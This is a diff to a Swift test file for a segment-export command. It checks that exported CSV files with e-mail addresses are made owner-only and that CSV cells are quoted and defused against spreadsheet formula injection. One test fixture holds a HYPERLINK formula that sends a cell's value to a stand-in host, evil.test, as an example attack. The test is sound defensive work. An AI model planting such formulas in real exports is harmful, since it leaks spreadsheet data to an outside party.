@@ -1,6 +1,7 @@
 // Segment exports with contact details against a real server (issue 14, item 3): the audit
 // row is committed before any row leaves, and a rollback cannot erase it.
 import Foundation
+import Loading
 import PostgresClient
 import TestSupport
 import Testing
@@ -110,5 +111,40 @@ struct ExportAuditTests {
     let audit = try db.connect().query(
       "select exported_by::text, row_count, include_pii, purpose from audience.segment_exports where segment_id = \(segment)")
     #expect(audit.cells == [[nil, "4", "t", "Presale e-mail"]])
+
+    // --out: the file holds e-mail addresses, so it is its owner's only (0600), also when
+    // it existed before with a looser mode.
+    let dir = FileManager.default.temporaryDirectory.appendingPathComponent("segment-export-\(UUID().uuidString)")
+    try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
+    defer { try? FileManager.default.removeItem(at: dir) }
+    let out = dir.appendingPathComponent("buyers.csv").path
+    #expect(FileManager.default.createFile(atPath: out, contents: Data("old".utf8), attributes: [.posixPermissions: 0o644]))
+    let written = try audiencectl([
+      "segment", "export", "--url", db.url, "--project", TestEnvironment.packageRoot.path,
+      "--segment", segment.uuidString, "--pii", "--purpose", "Presale e-mail", "--out", out,
+    ])
+    #expect(written.status == 0, "\(written.stderr)")
+    #expect(try String(contentsOfFile: out, encoding: .utf8) == result.stdout)
+    let mode = try FileManager.default.attributesOfItem(atPath: out)[.posixPermissions] as? Int
+    #expect(mode == 0o600)
+  }
+
+  @Test("the CSV quotes separators and line breaks, and defuses what a spreadsheet would run as a formula")
+  func csvCells() {
+    let result = SegmentExportResult(
+      exportID: 1, columns: ["visitor_id", "name", "score"],
+      rows: [
+        ["=HYPERLINK(\"http://evil.test/?x=\"&A1,\"x\")", "+1+1", "-5"],
+        ["@SUM(1,2)", "\tx", "-0.25"],
+        ["a,b", "line\r\nbreak", nil],
+        ["-", "=", "+3"],
+      ])
+    #expect(result.csv == [
+      "visitor_id,name,score",
+      "\"'=HYPERLINK(\"\"http://evil.test/?x=\"\"&A1,\"\"x\"\")\",'+1+1,-5",
+      "\"'@SUM(1,2)\",\"'\tx\",-0.25",
+      "\"a,b\",\"line\r\nbreak\",",
+      "'-,'=,+3",
+    ].map { $0 + "\r\n" }.joined())
   }
 }
